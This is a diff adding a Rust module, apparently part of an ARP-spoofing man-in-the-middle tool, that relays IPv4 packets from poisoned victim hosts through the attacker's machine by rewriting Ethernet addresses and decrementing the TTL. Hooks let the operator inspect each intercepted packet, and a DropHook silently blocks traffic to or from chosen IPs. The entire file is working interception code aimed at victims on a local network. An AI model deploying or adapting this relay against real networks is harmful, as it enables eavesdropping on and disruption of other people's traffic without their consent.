@@ -0,0 +1,190 @@
+use super::Addrs;
+use crate::args::reply::Ips;
+use log::debug;
+use pnet::{
+    datalink::DataLinkSender,
+    ipnetwork::Ipv4Network,
+    packet::{
+        ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket},
+        ipv4::{self, Ipv4Packet, MutableIpv4Packet},
+        MutablePacket, Packet,
+    },
+    util::MacAddr,
+};
+use std::collections::HashMap;
+use std::net::Ipv4Addr;
+use std::sync::{
+    atomic::{AtomicU64, Ordering},
+    RwLock,
+};
+
+#[derive(PartialEq)]
+pub enum Verdict {
+    Forward,
+    Drop,
+}
+
+/// Hook called with every intercepted packet before relaying it, which can
+/// inspect it or drop it.
+pub trait RelayHook: Sync + Send {
+    fn on_packet(&self, frame: &EthernetPacket, ip: &Ipv4Packet) -> Verdict;
+}
+
+/// Drops the packets from or to the given IPs.
+pub struct DropHook {
+    ips: Ips,
+}
+
+impl DropHook {
+    pub fn new(ips: Ips) -> Self {
+        return Self { ips };
+    }
+}
+
+impl RelayHook for DropHook {
+    fn on_packet(&self, _frame: &EthernetPacket, ip: &Ipv4Packet) -> Verdict {
+        if self.ips.contains(ip.get_source())
+            || self.ips.contains(ip.get_destination())
+        {
+            return Verdict::Drop;
+        }
+        return Verdict::Forward;
+    }
+}
+
+/// Relays in userspace the IPv4 packets that the poisoned hosts send to the
+/// attacker MAC for other IPs, by rewriting the Ethernet addresses with the
+/// real MAC of the destination (or of the gateway, if the destination is
+/// outside the network), so the kernel IP forwarding is not required. As a
+/// router does, the TTL of the relayed packets is decremented, and the ones
+/// that reach zero are dropped (without an ICMP time exceeded message).
+pub struct Relay {
+    attacker_addr: Addrs,
+    net: Ipv4Network,
+    gateway_ip: Option<Ipv4Addr>,
+    hosts_addr: Vec<Addrs>,
+    macs: RwLock<HashMap<Ipv4Addr, MacAddr>>,
+    hooks: Vec<Box<dyn RelayHook>>,
+    relayed: AtomicU64,
+    dropped: AtomicU64,
+}
+
+impl Relay {
+    pub fn new(
+        attacker_addr: Addrs,
+        net: Ipv4Network,
+        gateway_ip: Option<Ipv4Addr>,
+        hosts_addr: Vec<Addrs>,
+        victims_addr: &[Addrs],
+    ) -> Self {
+        let relay = Self {
+            attacker_addr,
+            net,
+            gateway_ip,
+            hosts_addr,
+            macs: RwLock::new(HashMap::new()),
+            hooks: Vec::new(),
+            relayed: AtomicU64::new(0),
+            dropped: AtomicU64::new(0),
+        };
+        relay.update(victims_addr);
+        return relay;
+    }
+
+    pub fn add_hook(&mut self, hook: Box<dyn RelayHook>) {
+        self.hooks.push(hook);
+    }
+
+    /// Updates the real MACs when the victims change.
+    pub fn update(&self, victims_addr: &[Addrs]) {
+        let mut macs = self.macs.write().unwrap();
+        macs.clear();
+        for addr in self.hosts_addr.iter().chain(victims_addr.iter()) {
+            macs.insert(addr.ip, addr.mac);
+        }
+    }
+
+    /// Returns the number of relayed and dropped packets.
+    pub fn stats(&self) -> (u64, u64) {
+        return (
+            self.relayed.load(Ordering::Relaxed),
+            self.dropped.load(Ordering::Relaxed),
+        );
+    }
+
+    pub fn relay(
+        &self,
+        sender: &mut Box<dyn DataLinkSender>,
+        buf: &[u8],
+    ) -> Result<(), String> {
+        let ether = match EthernetPacket::new(buf) {
+            Some(ether) => ether,
+            None => return Ok(()),
+        };
+        if ether.get_destination() != self.attacker_addr.mac
+            || ether.get_source() == self.attacker_addr.mac
+            || ether.get_ethertype() != EtherTypes::Ipv4
+        {
+            return Ok(());
+        }
+
+        let ip = match Ipv4Packet::new(ether.payload()) {
+            Some(ip) => ip,
+            None => return Ok(()),
+        };
+        let destination = ip.get_destination();
+        if destination == self.attacker_addr.ip {
+            return Ok(());
+        }
+        if ip.get_ttl() <= 1 {
+            debug!("Drop {} -> {}, TTL expired", ip.get_source(), destination);
+            self.dropped.fetch_add(1, Ordering::Relaxed);
+            return Ok(());
+        }
+
+        let next_hop = if self.net.contains(destination) {
+            destination
+        } else {
+            match self.gateway_ip {
+                Some(gateway_ip) => gateway_ip,
+                None => return Ok(()),
+            }
+        };
+        let next_hop_mac = match self.macs.read().unwrap().get(&next_hop) {
+            Some(mac) => *mac,
+            None => return Ok(()),
+        };
+
+        for hook in self.hooks.iter() {
+            if hook.on_packet(&ether, &ip) == Verdict::Drop {
+                debug!("Drop {} -> {}", ip.get_source(), destination);
+                self.dropped.fetch_add(1, Ordering::Relaxed);
+                return Ok(());
+            }
+        }
+
+        debug!(
+            "Relay {} -> {} through {}",
+            ip.get_source(),
+            destination,
+            next_hop_mac
+        );
+        let mut frame = MutableEthernetPacket::owned(buf.to_vec()).unwrap();
+        frame.set_source(self.attacker_addr.mac);
+        frame.set_destination(next_hop_mac);
+        {
+            // the size was already checked when parsing the packet
+            let mut ip = MutableIpv4Packet::new(frame.payload_mut()).unwrap();
+            ip.set_ttl(ip.get_ttl() - 1);
+            ip.set_checksum(ipv4::checksum(&ip.to_immutable()));
+        }
+
+        sender
+            .send_to(frame.packet(), None)
+            .ok_or("Error sending packet")?
+            .map_err(|e| format!("Error sending packet: {}", e))?;
+        self.relayed.fetch_add(1, Ordering::Relaxed);
+
+        return Ok(());
+    }
+}